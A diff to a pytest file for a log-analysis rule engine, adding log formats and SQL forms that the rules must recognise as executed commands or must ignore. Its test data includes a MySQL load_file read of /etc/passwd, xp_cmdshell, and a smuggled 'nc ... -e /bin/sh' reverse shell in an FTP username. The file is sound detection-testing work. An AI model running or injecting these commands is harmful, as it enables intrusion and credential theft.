@@ -1,6 +1,7 @@
 """A command or a request in the log of an application that nobody knows is judged as in the best-known one: by what its members are called."""
 import json
 import time
+from xml.sax.saxutils import escape
 
 import pytest
 
@@ -50,12 +51,21 @@ COMMANDS = {
     "a list of words in a pair": f"2026-11-27 10:11:12 [info] subprocess_started args=['cmd.exe', '/c', '{COMMAND}'] pid=4711",
     "brackets": f"2026-11-27 10:11:12 INFO Executing shell command [{COMMAND}]",
     "quotes in a sentence": f"2026-11-27 10:11:12 [salt.cmdmod][INFO] Executing command '{COMMAND}' in directory '/root'",
+    "a host's prompt": f"2026-11-27T10:11:12Z [7f3a1c2d] 192.0.2.7 pc7$ {COMMAND}", "a shell's prompt": f"bash-5.1# {COMMAND}", "a prompt with its folder": f"ann@pc7 /tmp % {COMMAND}", "a prompt behind a pair": f"session=7 PC7 C:\\jobs> {COMMAND}",
+    "a prompt of PowerShell": f"[PC7]: PS C:\\jobs> {COMMAND}", "a log of one's own": json.dumps({"at": 1, "event_message": f"Command dispatched for pc7: {COMMAND}"}), "a description": json.dumps({"at": 1, "description": f"about to execute: {COMMAND}"}),
+    "who ran it": f"2026-11-27 10:11:12 INFO executed by ann: {COMMAND}", "a number": f"2026-11-27 10:11:12 INFO spawned process 4711: {COMMAND}", "words with a list": json.dumps({"log": f"launching process with args: {['cmd.exe', '/c', COMMAND]}"}),
+    "an object as text in its event": json.dumps({"ts": 1, "host": "pc7", "event": json.dumps({"act": "run", "stepCmd": COMMAND})}), "a script in a pair": f'Nov 27 10:11:12 pc7 runner[7]: script="{COMMAND}" rc=0',
+    "a pair behind a colon": f'date: "2026" containerCmd: "{COMMAND}" rc: 0', "pairs between bars": f'audit probeCmd="{COMMAND} | findstr x" | svc=a | event=run | tid=7', "pairs between semicolons": f'at=1;probeCmd="{COMMAND}; ver";svc=a;tid=7',
+    "elements named alike": f'<record><item name="act">run</item><item name="user">ann</item><item name="cmd">{COMMAND}</item></record>',
     "a verb alone": f"I1127 10:11:12.345678    4711 runner.go:88] exec {COMMAND}",
 }
 STATEMENT = "SELECT load_file('/etc/passwd')"
 STATEMENTS = {
     "a statement": json.dumps({"ts": 1, "db": "shop", "user": "web", "statement": STATEMENT}), "a query": json.dumps({"time": 1, "query": STATEMENT, "host": "db1"}),
     "a pair": f'ts=1 user=web db=shop sql="{STATEMENT}" rows=1', "said": f"2026-11-27 10:11:12.345 WARN [pool] Slow query (2103 ms): {STATEMENT}",
+    "XML": f"<log><time>1</time><db>shop</db><sql>{escape(STATEMENT)}</sql></log>", "a duration": f"2026-11-27T10:11:12Z INFO a.b.Pool - duration: 3.281 ms  statement: {STATEMENT}", "no host": f"2026-11-27T10:11:12Z Executing SQL: {STATEMENT}",
+    "a time it took": f"[pool-7] query took 12 ms, rows=7: {STATEMENT}", "cells with semicolons": f"2026-11-27 10:11:12;db1;ann;{STATEMENT};0", "cells with commas": f'2026-11-27 10:11:12,db1,ann,"{STATEMENT}",0',
+    "one deeper": json.dumps({"at": 1, "call": {"query": STATEMENT, "rows": 1}}), "words beside comparisons": f"2026-11-27 10:11:12 INFO dao - Executing SQL: {STATEMENT} FROM a WHERE x='1' AND y='2' AND z='3'",
     "a logger": f"2026-11-27 10:11:12.345 DEBUG 1 --- [exec-1] org.hibernate.SQL : {STATEMENT}", "a syslog header": f"Nov 27 10:11:12 app1 shop[7]: slow query: {STATEMENT}",
 }
 REQUESTS = {
@@ -96,8 +106,18 @@ def test_rules_find_a_statement_by_what_its_member_or_the_words_before_it_say(fo
     assert "MySQL told to read a file of the system" in titles(STATEMENTS[form])
 
 
+@pytest.mark.parametrize("statement", [
+    "ANALYZE orders", "REFRESH MATERIALIZED VIEW mv_orders", "set global general_log = 0", "DROP AUDIT POLICY p7", "truncate audit.logged_actions", "UPDATE orders o SET state = 3", "SET ROLE postgres", "EXEC ('xp_cmdshell') AT [db7]",
+    "CREATE EVENT e1 ON SCHEDULE EVERY 5 MINUTE DO SELECT 1", "EXPLAIN SELECT a FROM b", "BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'j'); END;", "SHOW GRANTS", "BACKUP LOG [hr] TO DISK = 'x'",
+])
+def test_statements_are_known_by_how_they_begin(statement):
+    for text in (json.dumps({"sql": statement}), f"INFO dao - Executing SQL: {statement}"):
+        assert read_facts(text).fields["held.statement"] == statement
+
+
 @pytest.mark.parametrize("event", [
-    {"statement": "We select the best from all"}, {"query": "select.example.com"}, {"text": "select a colour from the list", "event": "note"}, {"query": "query Orders { orders { id } }"},
+    {"statement": "We select the best from all"}, {"query": "select.example.com"}, {"text": "select a colour from the list", "event": "note"}, {"query": "query Orders { orders { id } }"}, {"query": "analyze my orders"}, {"query": "set volume to 3"}, {"query": "show me shoes"},
+    {"query": "explain this"}, {"statement": "update your profile first"}, {"query": "execute order 66"}, {"call": {"query": "flush toilets"}},
 ])
 def test_words_that_begin_as_a_statement_does_are_none(event):
     assert "held.statement" not in read_facts(json.dumps(event)).fields
@@ -107,6 +127,7 @@ def test_words_that_begin_as_a_statement_does_are_none(event):
     f"2026-11-27 10:11:12 INFO search - user ann searched: {COMMAND}", f"Nov 27 10:11:12 web7 shop[33]: login failed for user x: {COMMAND}", f"2026-11-27 10:11:12 WARN Login failed: {COMMAND}",
     f"2026-11-27 10:11:12 WARN vpn: invalid user x executing command: {COMMAND}", f"Nov 27 10:11:12 mx1 mailgw[33]: subject: {COMMAND}", f'2026-11-27 10:11:12 login user="x; {COMMAND}" failed',
     json.dumps({"event": "search", "input": COMMAND}), json.dumps({"level": "info", "input": COMMAND, "model": "m1"}), json.dumps({"event": "chat", "text": f"run: {COMMAND}"}),
+    json.dumps({"ts": 1, "user": "ann", "body": json.dumps({"cmdline": COMMAND})}), json.dumps({"ts": 1, "url": "/hook", "method": "POST", "payload": json.dumps({"cmdline": COMMAND})}),
     json.dumps({"key": "username", "value": json.dumps({"cmdline": COMMAND})}), json.dumps({"payload": json.dumps({"cmdline": COMMAND}), "path": "/hook", "method": "POST"}),
     json.dumps({"proc": {"pcmdline": COMMAND}}), json.dumps({"parentCommand": COMMAND}), json.dumps({"program": "sshd", "message": f"Invalid user run: {COMMAND}"}),
 ])
@@ -118,7 +139,7 @@ def test_what_somebody_gave_is_no_command_that_was_run(text):
     "2026-11-27 10:11:12 ERROR docker daemon is not running", "2026-11-27 10:11:12 INFO Started python worker 7 of 9", "2026-11-27 10:11:12 [INFO] nmap scan of 192.0.2.0/24 by ann",
     "Jan 14 11:01:19 web7 ftp[4]: FTP session opened. USER a;nc 192.0.2.7 31337 -e /bin/sh", "2026-11-27 10:11:12,345 WARN [x] a.b.Reach: /etc/ld.so.preload changed to /usr/local/lib/x.so",
     "2026-11-27 10:11:12;INFO;find customer by id;3", "2026-11-27 10:11:12|INFO|git push rejected by remote|3", "2026-11-27 10:11:12|INFO|copy /srv/a to /srv/b|3",
-    "2026-11-27 10:11:12 INFO: Read-Only mode on", "[2026-11-27 10:11:12] [main] + added 3 users", "2026-11-27 10:11:12|x|COPY tickets TO PROGRAM 'gzip > /srv/a.gz'|3", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
+    "2026-11-27 10:11:12 INFO: Read-Only mode on", f"2026-11-27 10:11:12 INFO search by ann: $ {COMMAND}", f"2026-11-27 10:11:12 login failed for ann@pc7 /tmp % {COMMAND}", f"user=x $ {COMMAND}", "2026-11-27 10:11:12 INFO price 7$ for find", "2026-11-27 10:11:12 INFO ann was told to execute: read the book", "[2026-11-27 10:11:12] [main] + added 3 users", "2026-11-27 10:11:12|x|SELECT a colour|3", "2026-11-27 10:11:12;x;Drop table tennis;3", "2026-11-27 10:11:12 INFO ann searched query: SELECT * FROM a", "2026-11-27 10:11:12 ann wrote in ticket 7: query: SELECT * FROM a", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
     "Nov 27 10:11:12 gw7 box: src=192.0.2.7 url=https://shop.example/a?b=c action=allowed",
 ])
 def test_words_of_a_line_that_name_a_program_or_a_page_are_no_act(line):
@@ -168,7 +189,7 @@ def test_the_act_that_an_object_names_goes_before_an_address_in_it():
 @pytest.mark.parametrize("text", [
     '"GET /' * 4_000, "GET /a" * 6_000, "cmd=" * 8_000, 'a_cmd="' * 5_000, "executing command: " * 2_000, "command " * 4_000, "run: " * 6_000, "=cmd" * 8_000,
     "_" * 32_000 + "cmd=", "| nc -e " * 4_000, "; curl -s " * 4_000, ": /bin/a -b" * 3_000, "]: " * 10_000, "ran ['" * 5_000, "args=['a'," * 3_000, "GET;/a;" * 5_000, "|GET|/" + ";1" * 15_000,
-    "request /a?" * 3_000, "request url: " * 3_000, "query: select " * 3_000, "slow query: select " + "a " * 15_000, "<a>" * 10_000 + "</a>", "<a>b</a>" * 4_000, "\x1b[" * 10_000, 'exec "' * 5_000,
+    "request /a?" * 3_000, "request url: " * 3_000, "query: select " * 3_000, "a$ " * 8_000, 'a="x;' * 5_000, 'a="x|b=1|c=2|' + "d|" * 9_000, json.dumps({"data": '{"a":' * 5_000 + "}"}), '<a name="' * 4_000, 'cmd: "' * 5_000, "a@b c % " * 4_000, "C:\\" * 8_000, "PS " * 8_000, "[a@" * 8_000, "executed by a " * 2_000, "slow query: select " + "a " * 15_000, "<a>" * 10_000 + "</a>", "<a>b</a>" * 4_000, "\x1b[" * 10_000, 'exec "' * 5_000,
     "login " * 6_000, "user " * 5_000 + ": nc -e /bin/sh", json.dumps({"args": "[" + "'a'," * 5_000}), json.dumps({"sql": "select " + "(" * 20_000}), json.dumps({f"cmd{'_' * number}": "x " * 100 for number in range(300)}), json.dumps({"msg": ["GET /" + "a" * 200] * 300}),
     json.dumps({"cmd": {"cmd": {"cmd": ["a" * 5_000] * 6}}}), json.dumps({"cmdline": '"'}), json.dumps({"cmdline": "\u2028"}), json.dumps({"argv": [[], {}, None, 7, ""]}),
 ])
